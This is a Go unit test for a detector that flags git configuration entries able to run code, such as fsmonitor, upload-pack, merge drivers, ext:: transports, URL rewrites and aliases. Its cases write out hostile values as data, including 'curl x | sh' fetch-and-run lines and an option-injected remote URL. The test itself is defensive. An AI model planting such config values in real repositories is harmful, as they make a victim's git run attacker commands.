package engine

import (
	"os"
	"path/filepath"
	"testing"
)

// TestNewRepositoryConfigThatRunsCodeIsMovedAside: what a command's git
// init may leave in .git/config is judged by what it lists as safe, so
// the keys a list of dangerous names would miss (upload-pack, merge
// drivers, tool commands, protocol and URL rewrites) do not stay for the
// user's own git to run.
func TestNewRepositoryConfigThatRunsCodeIsMovedAside(t *testing.T) {
	const initial = "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n\tlogallrefupdates = true\n"
	cases := []struct {
		name, config string
		runs         bool
	}{
		{"git init", initial, false},
		{"identity, remote, upstream", initial + "[user]\n\tname = Dev\n\temail = dev@example.com\n[remote \"origin\"]\n" +
			"\turl = http://127.0.0.1:8080/app.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch \"main\"]\n" +
			"\tremote = origin\n\tmerge = refs/heads/main\n# a comment\n", false},
		{"fsmonitor", initial + "\tfsmonitor = curl x | sh\n", true},
		{"hooks path", initial + "\thooksPath = tools/hooks\n", true},
		{"upload-pack", initial + "[remote \"origin\"]\n\turl = ../other\n\tuploadpack = sh -c 'curl x | sh'\n", true},
		{"receive-pack", initial + "[remote \"origin\"]\n\treceivepack = evil\n", true},
		{"merge driver", initial + "[merge \"ours\"]\n\tdriver = sh evil.sh %O %A %B\n", true},
		{"mergetool cmd", initial + "[mergetool \"x\"]\n\tcmd = evil\n", true},
		{"difftool cmd", initial + "[difftool \"x\"]\n\tcmd = evil\n", true},
		{"ext transport allowed", initial + "[protocol \"ext\"]\n\tallow = always\n", true},
		{"ext url", initial + "[remote \"origin\"]\n\turl = ext::sh -c evil\n", true},
		{"url rewrite", initial + "[url \"ext::sh -c evil \"]\n\tinsteadOf = https://\n", true},
		{"option url", initial + "[remote \"origin\"]\n\turl = --upload-pack=evil\n", true},
		{"alias", initial + "[alias]\n\tst = !evil\n", true},
		{"include", initial + "[include]\n\tpath = ../x\n", true},
		{"old-style section", initial + "[core.x]\n\tpager = evil\n", true},
		{"key on the header line", "[core] fsmonitor = evil\n", true},
		{"continued value", initial + "[remote \"origin\"]\n\turl = http://x/a.git \\\n\tfsmonitor = evil\n", true},
		{"gpg program", initial + "[gpg]\n\tprogram = evil\n", true},
	}
	dir := t.TempDir()
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			p := filepath.Join(dir, "config")
			if err := os.WriteFile(p, []byte(tc.config), 0o644); err != nil {
				t.Fatal(err)
			}
			if got := gitConfigRunsCode(p); got != tc.runs {
				t.Errorf("gitConfigRunsCode(%q) = %v, want %v", tc.config, got, tc.runs)
			}
		})
	}
	if !gitConfigRunsCode(filepath.Join(dir, "missing")) {
		t.Error("a config that cannot be read counts as safe")
	}
}
